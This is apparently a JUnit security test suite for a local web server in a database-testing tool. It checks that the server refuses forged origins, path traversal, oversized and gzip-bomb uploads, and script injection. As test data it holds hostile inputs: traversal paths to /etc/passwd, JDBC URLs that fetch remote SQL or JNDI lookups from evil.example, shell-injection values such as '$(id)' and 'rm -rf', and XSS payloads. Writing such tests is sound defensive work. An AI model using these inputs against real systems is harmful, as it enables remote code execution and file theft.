package dev.assay.cli.serve;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.collect.config.RunConfig;
import dev.assay.collect.runs.RunFolder;
import dev.assay.collect.runs.RunStatus;
import dev.assay.collect.runs.RunStore;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every attack that the interface claims to withstand, tried on a server that really runs. */
class ServeAttacksTest {
  private static final List<String> PAGES =
      List.of("/", "/runs", "/runs/rows", "/runs.zip", "/new", "/bugs", "/style.css", "/script.js");

  @TempDir Path folder;
  private Path store;
  private Served served;
  private RawHttp client;
  private RunFolder run;

  @BeforeEach
  void start() throws IOException {
    store = folder.resolve("store");
    run =
        RunStore.open(store)
            .create("h2", RunConfig.read(Map.of("source", "database", "database", "h2")));
    run.become(RunStatus.HEALTHY, null);
    Files.writeString(folder.resolve("secret.txt"), "the secret");
    Files.writeString(store.resolve("secret.txt"), "the secret");
    served = Served.at(store);
    client = served.client();
  }

  @AfterEach
  void stop() {
    served.close();
  }

  // ---- who may ask

  @Test
  void nothingIsAnsweredWithoutTheCookie() throws IOException {
    RawHttp stranger = client.with("Cookie", null);
    List<String> pages = new ArrayList<>(PAGES);
    pages.addAll(List.of("/runs/" + run.id(), "/runs/" + run.id() + "/files/config.json"));
    for (String page : pages) {
      assertThat(client.get(page).status()).as(page).isLessThan(400);
      for (RawHttp one : List.of(stranger, stranger.with("Cookie", "assay-1=x"))) {
        RawHttp.Answer answer = one.get(page);
        assertThat(answer.status()).as(page).isEqualTo(401);
        assertThat(answer.body()).doesNotContain(run.id());
      }
    }
    assertThat(stranger.post("/runs/" + run.id() + "/delete", "do", "delete").status())
        .isEqualTo(401);
    assertThat(stranger.upload("x", new byte[10]).status()).isEqualTo(401);
    assertThat(served.runs()).hasSize(1);
  }

  @Test
  void aTokenWorksOnceAndAWrongOneNever() throws IOException {
    String address = served.server().loginAddress();
    String query = address.substring(address.indexOf('?'));
    RawHttp stranger = new RawHttp(client.port());
    assertThat(stranger.get("/?token=").status()).isEqualTo(401);
    assertThat(stranger.get("/?token=x").status()).isEqualTo(401);
    assertThat(stranger.get("/" + query.substring(0, query.length() - 1) + "!").status())
        .isEqualTo(401);
    RawHttp.Answer first = stranger.get("/" + query);
    assertThat(first.status()).isEqualTo(303);
    assertThat(first.header("Set-Cookie")).contains("HttpOnly").contains("SameSite=Strict");
    assertThat(stranger.get("/" + query).status()).isEqualTo(401);
    assertThat(served.server().loginAddress()).isNotEqualTo(address);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"evil.example", "evil.example:PORT", "127.0.0.1", "127.0.0.1.evil.example:PORT"})
  void aForeignNameThatPointsHereIsRefused(String host) throws IOException {
    String name = host.replace("PORT", Integer.toString(client.port()));
    assertThat(client.with("Host", name).get("/runs").status()).isEqualTo(403);
  }

  @Test
  void requestsFromOtherPagesAreRefused() throws IOException {
    for (String site : List.of("cross-site", "same-site")) {
      assertThat(client.with("Sec-Fetch-Site", site).get("/runs").status()).isEqualTo(403);
    }
    assertThat(client.with("Sec-Fetch-Site", "none").get("/runs").status()).isEqualTo(200);
    String other = "http://127.0.0.1:" + (client.port() + 1);
    for (String origin : List.of("http://evil.example", "null", other)) {
      RawHttp evil = client.with("Origin", origin);
      assertThat(evil.get("/runs").status()).as(origin).isEqualTo(403);
      assertThat(evil.post("/runs/" + run.id() + "/delete", "do", "delete").status())
          .as(origin)
          .isEqualTo(403);
    }
    assertThat(client.postAsIs("/runs/" + run.id() + "/delete", "do=delete").status())
        .isEqualTo(403);
    assertThat(served.runs()).hasSize(1);
  }

  @Test
  void noAnswerInvitesOtherOrigins() throws IOException {
    RawHttp evil = client.with("Origin", "http://evil.example");
    for (RawHttp.Answer answer :
        List.of(
            client.get("/runs"),
            evil.get("/runs"),
            evil.with("Access-Control-Request-Method", "POST")
                .send("OPTIONS", "/runs", new byte[0], true))) {
      assertThat(answer.head().toLowerCase()).doesNotContain("access-control-");
      assertThat(answer.header("Content-Security-Policy"))
          .contains("default-src 'none'", "script-src 'self'", "frame-ancestors 'none'")
          .doesNotContain("unsafe");
      assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
    }
    for (String method : List.of("OPTIONS", "PUT", "DELETE", "TRACE", "PATCH")) {
      RawHttp own = client.with("Origin", "http://127.0.0.1:" + client.port());
      assertThat(own.send(method, "/runs", new byte[0], true).status()).isIn(404, 405);
    }
  }

  // ---- how much

  @Test
  void anUploadEndsAtTheLimitWhetherAnnouncedOrNot() throws IOException {
    byte[] large = new byte[(int) Served.MAX_UPLOAD + 1];
    RawHttp own = client.with("Origin", "http://127.0.0.1:" + client.port());
    assertThat(own.send("POST", "/uploads?name=x", large, true).status()).isEqualTo(413);
    assertThat(own.send("POST", "/uploads?name=x", large, false).status()).isEqualTo(413);
    assertThat(store.resolve(".uploads")).isEmptyDirectory();
    assertThat(client.post("/preview", "x", "y".repeat(1 << 17)).status()).isEqualTo(413);
  }

  @Test
  void aCertificateIsBoundedAndKeptUnderANameOfOurs() throws Exception {
    byte[] history = "r(1,0,1,1)\nw(1,1,1,1)\nr(1,1,2,2)\nw(1,2,2,2)\n".getBytes();
    byte[] order = "{\"key\":1,\"versions\":[2,1]}\n".getBytes();
    String id =
        served.submit(
            "source",
            "upload",
            "upload",
            served.upload("a.txt", history),
            "version-order",
            served.upload("../../../evil.sh", order),
            "certificate-label",
            "../../../evil.sh");
    RunFolder judged = served.await(id);
    assertThat(judged.config().fields()).containsEntry("certificate", "certificate.jsonl");
    assertThat(judged.file("certificate.jsonl")).hasBinaryContent(order);
    assertThat(judged.file("verdict.json")).content().contains("certificate-contradiction");
    assertThat(client.get("/runs/" + id + "/files/certificate.jsonl").status()).isEqualTo(200);
    assertThat(folder.resolve("evil.sh")).doesNotExist();
    assertThat(
            client
                .post("/runs", "source", "upload", "upload", "x", "version-order", "../secret.txt")
                .status())
        .isEqualTo(422);
    assertThat(store.resolve(".uploads")).isEmptyDirectory();
  }

  @Test
  void aHistoryThatUnpacksToMoreThanTheMemoryFailsAloneInItsOwnProcess() throws Exception {
    ByteArrayOutputStream bomb = new ByteArrayOutputStream();
    try (GZIPOutputStream packed = new GZIPOutputStream(bomb)) {
      byte[] lines = "w(1,1,1,1)\n".repeat(10_000).getBytes(StandardCharsets.UTF_8);
      for (int i = 0; i < 2_000; i++) {
        packed.write(lines);
      }
    }
    String upload = served.upload("bomb.txt.gz", bomb.toByteArray());
    String id =
        served.submit("source", "upload", "upload", upload, "memory", "64m", "timeout", "20s");
    assertThat(client.get("/runs").status()).isEqualTo(200);
    assertThat(served.await(id).status()).isIn(RunStatus.FAILED, RunStatus.UNKNOWN);
    assertThat(client.get("/runs/" + id).status()).isEqualTo(200);
  }

  @Test
  void rubbishIsAFailedRunThatSaysWhere() throws Exception {
    String upload = served.upload("x.edn", "{:type :ok, :f :txn".getBytes(StandardCharsets.UTF_8));
    RunFolder failed = served.await(served.submit("source", "upload", "upload", upload));
    assertThat(failed.status()).isEqualTo(RunStatus.FAILED);
    assertThat(failed.state().message()).isNotBlank().doesNotContain("\tat ");
  }

  // ---- paths

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/runs/../secret.txt",
        "/runs/..%2fsecret.txt",
        "/runs/%2e%2e/secret.txt",
        "/runs/secret.txt",
        "/runs/.uploads",
        "/runs/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/runs/%2Fetc%2Fpasswd.zip",
        "/runs/ID/files/..%2f..%2fsecret.txt",
        "/runs/ID/files/../secret.txt",
        "/runs/ID/files/%2e%2e%2fsecret.txt",
        "/runs/ID/files/..%5c..%5csecret.txt",
        "/runs/ID/files/config.json%00.txt",
        "/runs/ID/files/",
        "/runs/ID/plots/..%2f..%2fsecret.txt",
        "/batches/..%2fsecret.txt",
        "/batches/..zip",
        "/../secret.txt",
        "//etc/passwd",
        "/style.css/../../secret.txt",
        "/new?from=../secret.txt",
        "/%2e%2e/%2e%2e/etc/passwd"
      })
  void noPathOfARequestIsAPathOnDisk(String path) throws IOException {
    RawHttp.Answer answer = client.get(path.replace("ID", run.id()));
    assertThat(answer.status()).isIn(400, 404);
    assertThat(answer.body()).doesNotContain("the secret").doesNotContain("root:");
  }

  @Test
  void nothingButOneRunCanBeDeletedOrNoted() throws IOException {
    for (String id : List.of("..", "%2e%2e", "..%2f..", "secret.txt", ".uploads", "%2Ftmp")) {
      assertThat(client.post("/runs/" + id + "/delete", "do", "delete").status()).isIn(400, 404);
      assertThat(client.post("/bugs/" + id + "/G2-item", "label", "Fixed").status()).isIn(400, 404);
    }
    for (String anomaly : List.of("..%2f..%2fx", "config.json", "nosuch")) {
      assertThat(client.post("/bugs/" + run.id() + "/" + anomaly, "label", "Fixed").status())
          .isIn(400, 404);
    }
    assertThat(folder.resolve("secret.txt")).exists();
    assertThat(store.resolve("secret.txt")).exists();
    assertThat(served.runs()).hasSize(1);
  }

  // ---- what drivers and commands receive

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e() {}'",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;INIT=x",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=x",
        "jdbc:h2:file:/etc/x",
        "jdbc:h2:/tmp/x",
        "jdbc:h2:~/x",
        "jdbc:h2:nio:/tmp/x",
        "jdbc:h2:zip:/tmp/x.zip!/x",
        "jdbc:h2:tcp://h/../../x",
        "jdbc:postgresql://h/d?socketFactory=evil&socketFactoryArg=http://evil.example/x.xml",
        "jdbc:postgresql://h/d?socket%46actory=evil",
        "jdbc:postgresql://h/d?sslfactory=evil",
        "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
        "jdbc:postgresql://h/d?sslmode=verify-full&sslkey=/etc/shadow",
        "jdbc:postgresql://h/d?user=a&password=hunter2",
        "jdbc:postgresql:d?socketFactory=evil",
        "jdbc:postgresql://h/d?sslmode=a'%20b",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=evil",
        "jdbc:mysql://h/d?allowUrlInLocalInfile=true",
        "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/d",
        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
        "jdbc:mysql://h,(host=b,autoDeserialize=true)/d",
        "jdbc:mysql:loadbalance://h/d",
        "jdbc:mysql+srv://h/d",
        "jdbc:mysql://u:hunter2@h/d",
        "jdbc:mysql://h/d#?autoDeserialize=true",
        "jdbc:mariadb://h/d?allowLocalInfile=true",
        "jdbc:mariadb://h/d?localSocket=/tmp/x",
        "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
        "jdbc:hsqldb:file:/tmp/x",
        "jdbc:hsqldb:res:x",
        "jdbc:hsqldb:mem:x;crypt_provider=evil",
        "jdbc:derby:/tmp/x;create=true",
        "jdbc:derby://h/d;traceFile=/tmp/x",
        "jdbc:derby:memory:x;create=true;startMaster=true;slaveHost=evil.example",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:sqlite::memory:?enable_load_extension=true",
        "jdbc:duckdb:/tmp/x",
        "jdbc:oracle:thin:@evil.example",
        "jdbc:jndi:ldap://evil.example/x",
        "JDBC:H2:mem:x;INIT=x",
        "jdbc:h2:mem:x --out=/tmp/x",
        "jdbc:h2:mem:x\njdbc:h2:mem:y;INIT=x",
        "file:///etc/passwd",
        ""
      })
  void urlsThatRunCodeOrReadFilesAreRefused(String url) throws IOException {
    String[] form = {"source", "jdbc", "url", url, "isolation", "serializable"};
    assertThat(client.post("/runs", form).status()).isEqualTo(422);
    assertThat(client.post("/preview", form).body()).contains("\"url\" :");
    assertThat(served.runs()).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "database | h2;rm -rf",
        "database | ../x",
        "database | jdbc",
        "version | ../../x",
        "version | 1</version><evil>",
        "version | -Dx=y",
        "sessions | 10 --out=/tmp/x",
        "sessions | --help",
        "sessions | 1e9",
        "keys | 0",
        "operations | 5-2",
        "reads | 2",
        "workload | mixed;id",
        "distribution | `id`",
        "isolation | $(id)",
        "duration | 5s --server-option=INIT=x",
        "timeout | forever",
        "memory | 2g -XX:OnError=id",
        "memory | 2g%n",
        "level | all --plugins=/tmp",
        "level | --plugins",
        "expect | nosuch",
        "faults | kill",
        "faults | kill;id",
        "faults-every | 2s --out=/tmp/x",
        "white-box | yes --plugins=/tmp",
        "writes | update --server-option=x=y",
        "for-update | --help",
        "shares | insert=1 --out=/tmp/x",
        "infer | timestamps --plugins=/tmp",
        "max-witnesses | 1e9",
        "threads | 0",
        "threads | -1 --plugins=/tmp",
        "anomaly | no-such-anomaly",
        "anomaly | G2-item --output=text",
        "checkers | ../evil",
        "checkers | /tmp/evil.jar",
        "checkers | nosuch",
        "seed | 1;id",
        "source | elsewhere"
      })
  void fieldsThatWouldBecomeOtherArgumentsAreRefused(String field, String value)
      throws IOException {
    assertThat(client.post("/runs", "source", "database", field, value).status()).isEqualTo(422);
    assertThat(served.runs()).hasSize(1);
  }

  @Test
  void listsThatMakeTooManyRunsAreRefused() throws IOException {
    String many =
        String.join(",", Stream.iterate(1, i -> i + 1).limit(60).map(i -> "" + i).toList());
    RawHttp.Answer answer =
        client.post("/runs", "source", "synthetic", "sessions", many, "keys", many);
    assertThat(answer.status()).isEqualTo(422);
    assertThat(served.runs()).hasSize(1);
  }

  @Test
  void pluginsComeOnlyFromTheFolderOfTheServer() throws Exception {
    String id =
        served.submit(
            "source", "synthetic", "sessions", "2", "transactions", "5", "plugins", "/tmp");
    RunFolder done = served.await(id);
    assertThat(done.config().fields()).doesNotContainKey("plugins");
    assertThat(done.status()).isEqualTo(RunStatus.HEALTHY);
  }

  // ---- secrets

  @Test
  void aPasswordIsNeitherOnDiskNorOnACommandLine() throws Exception {
    String password = "hunter2-" + System.nanoTime();
    String id =
        served.submit(
            "source",
            "jdbc",
            "url",
            "jdbc:h2:tcp://127.0.0.1:1/x",
            "user",
            "app",
            "password",
            password);
    List<String> lines = new ArrayList<>();
    while (!served.run(id).status().isOver()) {
      ProcessHandle.current()
          .descendants()
          .forEach(child -> child.info().commandLine().ifPresent(lines::add));
      Thread.sleep(20);
    }
    assertThat(served.run(id).status()).isEqualTo(RunStatus.FAILED);
    assertThat(lines).anyMatch(line -> line.contains("--password-env="));
    assertThat(lines).noneMatch(line -> line.contains(password));
    try (Stream<Path> files = Files.walk(folder)) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        String content = Files.readString(file, StandardCharsets.ISO_8859_1);
        assertThat(content).as(file.toString()).doesNotContain(password);
      }
    }
    assertThat(client.get("/runs/" + id).body()).doesNotContain(password);
    assertThat(client.post("/runs/" + id + "/rerun", "do", "rerun").status()).isEqualTo(409);
  }

  // ---- what is shown

  @Test
  void whatPeopleAndFilesSayIsTextOnEveryPage() throws Exception {
    String script = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>";
    byte[] history = "r(1,0,1,1)\nw(2,1,1,1)\nr(2,0,2,2)\nw(1,1,2,2)\n".getBytes();
    String upload = served.upload(script, history);
    String id = served.submit("source", "upload", "upload", upload, "label", script);
    assertThat(served.await(id).status()).isEqualTo(RunStatus.BUGGY);
    String anomaly = "G2-item";
    client.post("/bugs/" + id + "/" + anomaly, "label", "Open", "notes", script);
    String search = RawHttp.encoded(script);
    for (String page :
        List.of(
            "/runs",
            "/runs?q=" + search + "&status=" + search,
            "/runs/rows",
            "/runs/" + id,
            "/bugs?label=" + search,
            "/new?from=" + id,
            "/new?preset=" + search,
            "/" + search)) {
      assertThat(client.get(page).body())
          .as(page)
          .doesNotContain("<script>alert")
          .doesNotContain("<img");
    }
    assertThat(client.get("/bugs").body()).contains("&lt;script&gt;alert(1)");
  }

  @Test
  void aReportRunsWithoutAnOriginOfItsOwn() throws Exception {
    byte[] history = "r(1,0,1,1)\nw(2,1,1,1)\nr(2,0,2,2)\nw(1,1,2,2)\n".getBytes();
    String upload = served.upload("x.txt", history);
    String id = served.submit("source", "upload", "upload", upload);
    served.await(id);
    RawHttp.Answer report = client.get("/runs/" + id + "/report");
    assertThat(report.status()).isEqualTo(200);
    assertThat(report.header("Content-Security-Policy"))
        .startsWith("sandbox allow-scripts")
        .doesNotContain("allow-same-origin")
        .contains("default-src 'none'");
    // What such a page sends carries no cookie, and says that it has no origin.
    assertThat(client.with("Origin", "null").get("/runs").status()).isEqualTo(403);
  }
}
